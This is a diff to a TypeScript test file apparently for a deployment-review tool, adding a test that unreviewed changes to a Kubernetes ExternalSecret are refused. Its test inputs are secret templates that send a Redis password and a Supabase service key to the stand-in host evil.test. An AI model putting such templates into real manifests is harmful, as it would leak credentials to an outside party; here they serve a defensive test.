@@ -18,14 +18,21 @@ const limit = (average: number, object = {}) =>
     { manifest: { kind: "Middleware", spec: { average } }, object },
   );
 
+const redisUrl = (url: string) =>
+  update(
+    "kubernetes_manifest.m",
+    { manifest: { kind: "ExternalSecret", spec: { REDIS_URL: "redis://{{ .redisHost }}" } } },
+    { manifest: { kind: "ExternalSecret", spec: { REDIS_URL: url } } },
+  );
+
 let folder: string;
 beforeEach(() => {
   folder = mkdtempSync(join(tmpdir(), "wbot-reviewed-"));
 });
 
-function deploy(planned: ReturnType<typeof limit>): void {
+function deploy(planned: ReturnType<typeof limit>, reviewed = limit(10)): void {
   const environment = loadEnvironment("dev");
-  const changes = changesOf(FOLDER, plan(limit(10)));
+  const changes = changesOf(FOLDER, plan(reviewed));
   const app = { stack: "app", source: "plan", changes };
   const file = join(folder, "diff.json");
   writeFileSync(file, JSON.stringify({ version: 3, environment: "dev", stacks: [app] }));
@@ -39,6 +46,15 @@ it("another value is refused", () => {
   expect(() => {
     deploy(limit(1_000_000));
   }).toThrow("kubernetes_manifest.m (Middleware): update of something other than what was reviewed");
+});
+
+it.each([
+  "rediss://:{{ .redisPassword | urlquery }}@evil.test",
+  "https://evil.test/{{ .SUPABASE_SERVICE_KEY }}",
+])("so is another template of a secret: %s", (url) => {
+  expect(() => {
+    deploy(redisUrl(url), redisUrl("rediss://:{{ .redisPassword | urlquery }}@{{ .redisHost }}"));
+  }).toThrow("update of something other than what was reviewed");
 });
 
 it("what the cluster makes of the same one may differ", () => {
